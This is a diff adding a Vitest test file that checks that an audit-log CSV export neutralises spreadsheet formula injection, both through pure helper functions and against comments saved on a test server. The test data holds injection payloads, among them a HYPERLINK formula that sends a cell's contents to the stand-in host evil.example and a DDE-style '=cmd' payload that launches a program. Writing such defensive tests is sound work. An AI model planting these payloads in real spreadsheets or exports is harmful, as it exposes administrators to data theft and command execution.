@@ -1,0 +1,83 @@
+/**
+ * The audit CSV export as an attacker would use it: a comment typed to run as a formula in the spreadsheet of
+ * whoever exports the audit log (an admin) must arrive there as plain text. Pure functions, plus one run on
+ * the audit entries a real server gives back.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { neutraliseFormula, toCsv } from '../src/common/csv.js';
+import { startTestServer, type TestServer } from '../../server/src/testing/harness.js';
+
+/** The cells of a CSV line as a spreadsheet reads them (RFC 4180 quotes undone). */
+function cells(line: string): string[] {
+  const out: string[] = [];
+  const re = /("((?:[^"]|"")*)"|[^,]*)(,|$)/g;
+  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
+    out.push(m[2] !== undefined ? m[2].replace(/""/g, '"') : m[1]);
+    if (m[3] === '') break;
+  }
+  return out;
+}
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"click")',
+  '=cmd|\' /C calc\'!A0',
+  '+1+1',
+  '-2+3',
+  '@SUM(1,1)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+describe('CSV export neutralises formulas', () => {
+  it('prefixes every text that starts like a formula with an apostrophe, and leaves other text alone', () => {
+    for (const formula of FORMULAS) expect(neutraliseFormula(formula), JSON.stringify(formula)).toBe(`'${formula}`);
+    for (const plain of ['', 'Laptops', 'a = b', '1+1', "'quoted", 'Q1', '12.5']) expect(neutraliseFormula(plain)).toBe(plain);
+  });
+
+  it('writes no cell that starts like a formula, and keeps numbers as numbers', () => {
+    const csv = toCsv(['value', 'amount'], [...FORMULAS.map((f) => [f, -3]), ['plain', 1200]]);
+    const lines = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean);
+    // The CR inside the last formula is quoted, so split on CRLF only after parsing quoted cells.
+    const rows = lines.map(cells);
+    for (const row of rows.slice(1)) expect(row[0]).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.at(-1)).toEqual(['plain', '1200']);
+    expect(rows[1]).toEqual([`'${FORMULAS[0]}`, '-3']);
+  });
+});
+
+describe('the audit export of a comment typed as a formula', () => {
+  let server: TestServer;
+  beforeAll(async () => {
+    server = await startTestServer();
+  });
+  afterAll(() => server?.stop());
+
+  it('arrives in the spreadsheet as text', async () => {
+    const lead = await server.login('lead.sales-north@example.com');
+    const plans = await server.gql('{ budgetPlans { id } }', {}, lead);
+    const lines = await server.gql('query($p: ID!) { budgetLines(planId: $p, businessUnitCode: "SALES_NORTH") { id } }', { p: plans.data.budgetPlans[0].id }, lead);
+    const id = lines.data.budgetLines[0].id;
+    for (const comment of ['=HYPERLINK("https://evil.example","x")', '@SUM(A1:A9)', '+cmd']) {
+      const res = await server.gql('mutation($id: ID!, $c: String!) { updateBudgetLine(id: $id, input: { comment: $c }) { id } }', { id, c: comment }, lead);
+      expect(res.errors).toBeUndefined();
+    }
+    const admin = await server.login('admin@example.com');
+    const audit = await server.gql(
+      `{ auditLog(first: 10) { edges { node { id at column oldValue newValue source user { id email displayName }
+          line { id productCategory region quarter businessUnit { id code name } } } } } }`,
+      {},
+      admin,
+    );
+    expect(audit.errors).toBeUndefined();
+    // The client's own export code. Loaded by a computed path: the server's typecheck of tests (which includes
+    // this file) resolves modules the Node way, and the client's hooks behind auditFormat only type-check the
+    // bundler way (client/tsconfig.json checks them).
+    const auditFormat = '../src/admin/auditFormat.js';
+    const { auditCsv } = (await import(auditFormat)) as { auditCsv(entries: unknown[]): string };
+    const csv = auditCsv(audit.data.auditLog.edges.map((e: { node: unknown }) => e.node));
+    const rows = csv.replace(/^\ufeff/, '').split('\r\n').filter(Boolean).map(cells);
+    expect(rows.length).toBe(4);
+    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.flat()).toContain(`'=HYPERLINK("https://evil.example","x")`);
+  });
+});
